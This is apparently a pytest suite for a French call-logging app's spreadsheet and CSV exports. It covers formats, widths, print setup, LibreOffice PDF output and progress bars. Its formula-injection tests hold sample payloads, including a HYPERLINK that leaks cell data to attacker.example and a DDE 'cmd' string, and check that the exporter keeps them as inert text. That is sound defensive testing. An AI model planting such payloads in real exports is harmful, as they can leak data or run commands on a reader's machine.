"""The exported files as a manager opens them: French words, real dates and
percentages, widths, frozen header, filter, print setup, CSV conventions,
hostile text kept inert, a PDF through LibreOffice, progress on a terminal."""

from __future__ import annotations

import csv
import io
import os
import pty
import re
import shutil
import subprocess
import sys
import zipfile
from datetime import time
from pathlib import Path

import pytest
from flask import Flask
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from callbook.db import session_scope
from callbook.reports.cells import WIDTH_CAP, csv_number, neutralised
from callbook.reports.exports import (
    HISTORY_HEADERS,
    HISTORY_SHEET,
    RESULTS_SHEET,
    CsvStyle,
    Names,
    write_csv,
    write_xlsx,
)
from ivr.config import demo_yaml_text
from tests.conftest import PARIS, IvrRunner, paris
from tests.test_callbook_reports import MARCH, add_call, march_book

NAMES = Names(
    motives={"incident": "Incident technique", "usage": "Question d'usage"},
    structures={"auvergne": "Auvergne", "paris": "Île-de-France"},
    people={"chloe": "Chloé Bernard"},
)
HOSTILE_CONTACT = '=HYPERLINK("http://attacker.example/?x="&A1,"Cliquez")'
HOSTILE_MOTIVE = "-2+3+cmd|' /C calc'!A0"
HOSTILE_STRUCTURE = "@SUM(1+1)"


def export(app: Flask, path: Path, names: Names = NAMES) -> Path:
    with session_scope(app) as session:
        write_xlsx(session, path, *MARCH, tz=PARIS, names=names)
    return path


def csv_text(app: Flask, style: CsvStyle) -> str:
    out = io.StringIO(newline="")
    with session_scope(app) as session:
        write_csv(session, out, *MARCH, tz=PARIS, style=style, names=NAMES)
    return out.getvalue()


def column(sheet: Worksheet, header: str) -> str:
    """The letter of the history's column `header`."""
    return "ABCDEFGHIJKLMNO"[HISTORY_HEADERS.index(header)]


# -- XLSX ---------------------------------------------------------------------------


def test_the_history_reads_in_french_with_local_dates_and_times(app: Flask, tmp_path: Path) -> None:
    march_book(app)
    sheet = load_workbook(export(app, tmp_path / "march.xlsx"))[HISTORY_SHEET]
    c1 = {header: cell for header, cell in zip(HISTORY_HEADERS, sheet[2], strict=True)}
    # 08:15 UTC is 09:15 in Paris: a date cell and a time cell, French formats.
    assert c1["Date"].is_date and c1["Date"].number_format == "DD/MM/YYYY"
    assert c1["Date"].value.date().isoformat() == "2026-03-02"
    assert c1["Heure"].is_date and c1["Heure"].number_format == "HH:MM:SS"
    assert c1["Heure"].value == time(9, 15)
    assert c1["Structure"].value == "Auvergne"
    assert c1["Motif"].value == "Question d'usage"  # the configured name of "usage"
    assert c1["Famille"].value == "Question d'usage"  # callbook.labels
    assert (c1["Canal"].value, c1["Issue"].value) == ("Clavier", "Référents locaux")
    assert c1["Répondu par"].value == "ref-auvergne"  # an id without a name stays as is
    assert c1["Numéro"].value == "+33612345678" and c1["Numéro"].data_type == "s"  # text
    assert not c1["Numéro"].quotePrefix  # digits after "+" run nothing: no style needed
    c4 = [cell.value for cell in sheet[7]]
    assert c4[2] == "C4"
    assert c4[8:13] == ["Urgence", "Clavier", "Astreinte", "non", "Chloé Bernard"]
    # C5 (29 March, the spring DST day) began at 01:30 in Paris, 00:30 UTC.
    c5 = [cell.value for cell in sheet[8]]
    assert c5[2] == "C5" and c5[1] == time(1, 30)
    assert c5[7:10] == [None, None, None]  # no motive: empty cells, not a dash
    codes = {"referent", "voicemail", "keypad", "incident", "oncall", "technician", "paris"}
    assert not codes & {cell.value for row in sheet.iter_rows(min_row=2) for cell in row}


def test_every_sheet_is_ready_to_filter_and_print(app: Flask, tmp_path: Path) -> None:
    march_book(app)
    add_call(app, "LONG", paris(2026, 3, 10, 10, 0), route="hotline", contact="x" * 200)
    book = load_workbook(export(app, tmp_path / "march.xlsx"))
    history, results = book[HISTORY_SHEET], book[RESULTS_SHEET]
    assert history.auto_filter.ref == "A1:O12"  # the header and 11 lines
    for sheet in (history, results):
        assert sheet.freeze_panes == "A2"
        assert sheet.page_setup.orientation == "landscape"
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
        assert sheet.print_title_rows == "$1:$1"  # the header on every printed page
    widths = {h: history.column_dimensions[column(history, h)].width for h in HISTORY_HEADERS}
    assert widths["Contact"] == WIDTH_CAP  # 200 characters: capped
    assert widths["Date"] == len("02/03/2026") + 2
    assert widths["Appel"] == len("Appel") + 4  # the sids are shorter than the header
    assert widths["Structure"] == len("Île-de-France") + 2
    assert widths["Issue"] == len("Hotline nationale") + 2  # the longest route of March
    assert widths["Aux heures d'ouverture"] == len("Aux heures d'ouverture") + 4
    assert (
        results.column_dimensions["A"].width
        == len("Irritants (les 5 motifs les plus sollicités)") + 2
    )


def test_shares_are_numbers_shown_as_percentages(app: Flask, tmp_path: Path) -> None:
    march_book(app)
    sheet = load_workbook(export(app, tmp_path / "march.xlsx"))[RESULTS_SHEET]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2) if len(row) > 1}
    rate = cells["Taux de réponse"]
    assert rate.value == pytest.approx(3 / 7) and rate.number_format == "0.0 %"
    assert cells["Part hors horaires"].value == pytest.approx(4 / 7)
    assert cells["Part hors horaires"].number_format == "0.0 %"
    assert cells["Appels"].value == 7 and cells["Appels"].number_format == "General"
    by_route = {row[0].value for row in sheet.iter_rows(min_row=2)}
    assert {"Messagerie", "Hotline nationale", "Incident technique", "Auvergne"} <= by_route


def hostile_book(app: Flask) -> None:
    motives = [(HOSTILE_MOTIVE, "incident", "keypad"), ("usage", "usage", "keypad")]
    add_call(app, "EVIL", paris(2026, 3, 4, 11, 0), structure=HOSTILE_STRUCTURE,
             route="voicemail", contact=HOSTILE_CONTACT, from_number="\t=1+1",
             motives=motives)  # fmt: skip


def test_text_a_spreadsheet_would_compute_stays_text_in_xlsx(app: Flask, tmp_path: Path) -> None:
    hostile_book(app)
    names = Names(motives={"usage": "=1+1"})  # a hostile label in the configuration too
    path = export(app, tmp_path / "evil.xlsx", names)
    sheet = load_workbook(path)[HISTORY_SHEET]
    by_header = [dict(zip(HISTORY_HEADERS, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    first, second = by_header
    for cell, text in (
        (first["Contact"], HOSTILE_CONTACT),
        (first["Numéro"], "\t=1+1"),
        (first["Structure"], HOSTILE_STRUCTURE),
        (first["Motif"], HOSTILE_MOTIVE),
        (second["Motif"], "=1+1"),
    ):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # not one formula in the file


def test_text_a_spreadsheet_would_compute_stays_text_in_csv(app: Flask) -> None:
    hostile_book(app)
    for style, delimiter in (("excel-fr", ";"), ("plain", ",")):
        rows = list(csv.reader(io.StringIO(csv_text(app, style)), delimiter=delimiter))
        line = dict(zip(HISTORY_HEADERS, rows[1], strict=True))
        assert line["Contact"] == "'" + HOSTILE_CONTACT
        assert line["Numéro"] == "'\t=1+1"
        assert line["Structure"] == "'" + HOSTILE_STRUCTURE
        assert line["Motif"] == "'" + HOSTILE_MOTIVE
    assert neutralised("Mairie d'Issoire") == "Mairie d'Issoire"
    assert neutralised("\r=1") == "'\r=1"


# -- CSV ----------------------------------------------------------------------------


def test_csv_for_french_spreadsheets_by_default(app: Flask) -> None:
    march_book(app)
    text = csv_text(app, "excel-fr")
    assert text.startswith("\ufeffDate;Heure;Appel;Ticket;Numéro;")  # UTF-8 with BOM once encoded
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    line = dict(zip(HISTORY_HEADERS, rows[1], strict=True))
    assert (line["Date"], line["Heure"]) == ("02/03/2026", "09:15:00")
    assert (line["Structure"], line["Issue"], line["Canal"]) == (
        "Auvergne",
        "Référents locaux",
        "Clavier",
    )
    assert (line["Durée (s)"], line["Attente (s)"]) == ("60", "30")
    assert csv_number(12.5, decimal_comma=True) == "12,5"


def test_plain_csv_for_scripts(app: Flask) -> None:
    march_book(app)
    text = csv_text(app, "plain")
    assert text.startswith("Date,Heure,Appel,Ticket,")  # no BOM
    rows = list(csv.reader(io.StringIO(text)))
    line = dict(zip(HISTORY_HEADERS, rows[1], strict=True))
    assert (line["Date"], line["Heure"]) == ("2026-03-02", "09:15:00")
    assert (line["Structure"], line["Issue"], line["Motif"]) == ("auvergne", "referent", "usage")
    assert csv_number(12.5, decimal_comma=False) == "12.5"


def test_the_cli_writes_either_csv_style(runner: IvrRunner, app: Flask, tmp_path: Path) -> None:
    march_book(app)
    period = ("--from", "2026-03-01", "--to", "2026-03-31")
    french, plain = tmp_path / "fr.csv", tmp_path / "plain.csv"
    assert runner.invoke("callbook", "export", *period, str(french)).exit_code == 0
    result = runner.invoke("callbook", "export", *period, "--csv-style", "plain", str(plain))
    assert result.exit_code == 0, result.output
    assert french.read_bytes().startswith(b"\xef\xbb\xbfDate;Heure;")
    assert plain.read_bytes().startswith(b"Date,Heure,")
    # The demo configuration names the structures and motives.
    assert "Question sur l'utilisation du logiciel" in french.read_text(encoding="utf-8-sig")
    wrong = runner.invoke("callbook", "export", *period, "--csv-style", "tsv", str(plain))
    assert wrong.exit_code == 2 and "excel-fr" in wrong.output


# -- printing through LibreOffice -----------------------------------------------------


def test_libreoffice_prints_the_workbook_one_page_wide(app: Flask, tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed: .ci/run installs it")
    march_book(app)
    path = export(app, tmp_path / "march.xlsx")
    profile = tmp_path / "lo-profile"  # its own profile: no lock shared with another run
    subprocess.run(
        [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless",
         "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    pdf = (tmp_path / "march.pdf").read_bytes()
    assert pdf.startswith(b"%PDF")
    pages = len(re.findall(rb"/Type\s*/Page(?!s)", pdf))
    # The history (12 rows, 15 columns) on one page wide and the "Résultats"
    # (about 80 rows) on two or three: never a column cut onto its own page.
    assert 2 <= pages <= 5, pages
    boxes = re.findall(rb"/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)\s*\]", pdf)
    assert boxes and all(float(w) > float(h) for w, h in boxes)  # landscape, every page


# -- progress ---------------------------------------------------------------------------


def test_the_export_is_quiet_when_not_on_a_terminal(
    runner: IvrRunner, app: Flask, tmp_path: Path
) -> None:
    march_book(app)
    out = tmp_path / "march.xlsx"
    result = runner.invoke("callbook", "export", "--from", "2026-03-01", "--to", "2026-03-31",
                           str(out))  # fmt: skip
    assert result.exit_code == 0
    assert result.output == f"10 lines written to {out}\n"  # no bar, no label


def on_terminal(runner: IvrRunner, *args: str) -> tuple[int, str]:
    """Run `ivr ARGS` in a child process whose standard error is a terminal (a pty).

    (exit code, what the terminal received).
    """
    env = {**os.environ, **{k: v for k, v in runner.env.items() if v is not None}}
    master, terminal = pty.openpty()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "ivr.cli", *args],
            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=terminal, env=env,
            timeout=120, check=False,
        )  # fmt: skip
        os.close(terminal)
        shown = b""
        while True:
            try:
                chunk = os.read(master, 4096)
            except OSError:  # the other side is closed and everything was read
                break
            if not chunk:
                break
            shown += chunk
    finally:
        os.close(master)
    return done.returncode, shown.decode()


def test_the_export_shows_its_progress_on_a_terminal(
    runner: IvrRunner, app: Flask, tmp_path: Path
) -> None:
    march_book(app)
    out = tmp_path / "march.xlsx"
    code, text = on_terminal(runner, "callbook", "export", "--from", "2026-03-01",
                             "--to", "2026-03-31", str(out))  # fmt: skip
    assert code == 0, text
    assert "Export XLSX  [---" in text  # the bar, empty, then full
    assert text.index("0%") < text.index("100%") < text.index("10 lines written")


def test_config_import_and_export_show_progress_on_a_terminal(
    runner: IvrRunner, app: Flask, tmp_path: Path
) -> None:
    source = tmp_path / "hotline.yaml"
    source.write_text(demo_yaml_text(), encoding="utf-8")
    code, text = on_terminal(runner, "config", "import", str(source))
    assert code == 0, text
    assert "Importing hotline.yaml  [---" in text and "100%" in text
    quiet = runner.invoke("config", "import", str(source))
    assert quiet.output.startswith("revision 3 active")  # no bar off a terminal
    code, text = on_terminal(runner, "config", "export", "--output", str(tmp_path / "out.yaml"))
    assert code == 0, text
    assert "Exporting to out.yaml" in text and "100%" in text
